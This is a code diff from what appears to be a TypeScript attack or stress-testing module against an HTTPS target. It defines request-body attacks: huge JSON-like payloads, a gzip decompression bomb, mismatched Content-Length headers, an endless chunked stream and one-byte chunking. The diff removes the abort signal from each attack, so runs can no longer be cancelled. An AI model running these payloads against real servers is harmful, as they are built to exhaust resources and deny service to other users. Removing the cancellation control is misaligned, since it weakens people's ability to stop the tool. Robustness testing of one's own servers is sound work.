@@ -52,60 +52,56 @@ export const bodies: Attack[] = [
     name: '1 MiB of numbers as containers',
     part: few,
     pause,
-    attempt: (target, _number, signal) => onTls(target, whole(numbers()), signal),
+    attempt: (target) => onTls(target, whole(numbers())),
   },
   {
     name: '8 MiB of [',
     part: few,
     pause,
-    attempt: (target, _number, signal) => onTls(target, whole(brackets()), signal),
+    attempt: (target) => onTls(target, whole(brackets())),
   },
   {
     name: 'the worst reviews',
     part: few,
     pause,
-    attempt: (target, number, signal) => onTls(target, whole(worst[number % worst.length] ?? Buffer.alloc(0)), signal),
+    attempt: (target, number) => onTls(target, whole(worst[number % worst.length] ?? Buffer.alloc(0))),
   },
   {
     name: 'compressed',
     part: few,
     pause: 1000,
-    attempt: (target, _number, signal) => onTls(target, whole(bomb(), { 'Content-Encoding': 'gzip' }), signal),
+    attempt: (target) => onTls(target, whole(bomb(), { 'Content-Encoding': 'gzip' })),
   },
   {
     name: 'wrong Content-Length',
     part: 5 * few,
     pause: 1000,
-    attempt: (target, number, signal) => {
+    attempt: (target, number) => {
       const headers = wrongLengths[number % wrongLengths.length] ?? {};
       const body = JSON.stringify(trainingReview(target));
-      return onTls(target, (socket) => void socket.write(Buffer.concat([head(headers), Buffer.from(body)])), signal);
+      return onTls(target, (socket) => void socket.write(Buffer.concat([head(headers), Buffer.from(body)])));
     },
   },
   {
     name: 'chunked without end',
     part: few,
     pause: 1000,
-    attempt: (target, _number, signal) =>
-      onTls(
-        target,
-        async (socket, over) => {
-          socket.write(head({ 'Transfer-Encoding': 'chunked' }));
-          const chunk = Buffer.from(`10000\r\n${'['.repeat(0x10000)}\r\n`);
-          while (!over.aborted && !socket.destroyed) await writeAll(socket, chunk, over);
-        },
-        signal,
-      ),
+    attempt: (target) =>
+      onTls(target, async (socket, over) => {
+        socket.write(head({ 'Transfer-Encoding': 'chunked' }));
+        const chunk = Buffer.from(`10000\r\n${'['.repeat(0x10000)}\r\n`);
+        while (!over.aborted && !socket.destroyed) await writeAll(socket, chunk, over);
+      }),
   },
   {
     name: 'chunks of one byte',
     part: few,
     pause: 1000,
-    attempt: (target, _number, signal) => {
+    attempt: (target) => {
       const body = JSON.stringify(trainingReview(target));
       const chunks = [...body].map((each) => `1\r\n${each}\r\n`).join('');
       const text = Buffer.concat([head({ 'Transfer-Encoding': 'chunked' }), Buffer.from(`${chunks}0\r\n\r\n`)]);
-      return onTls(target, (socket, over) => writeAll(socket, text, over), signal);
+      return onTls(target, (socket, over) => writeAll(socket, text, over));
     },
   },
 ];
